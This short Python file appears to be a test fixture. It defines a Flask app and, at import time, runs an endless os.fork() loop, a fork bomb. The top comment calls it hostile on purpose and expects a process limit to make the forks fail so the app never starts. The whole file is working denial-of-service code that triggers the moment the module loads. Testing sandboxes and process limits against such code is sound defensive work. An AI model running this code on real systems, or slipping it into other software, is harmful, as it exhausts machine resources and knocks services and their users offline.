# Hostile on purpose: a fork bomb at import. Every process forks forever; with the process limit
# forks fail (BlockingIOError), the app never starts, and nothing of it is left afterwards.
import os

from flask import Flask

app = Flask(__name__)

while True:
    os.fork()
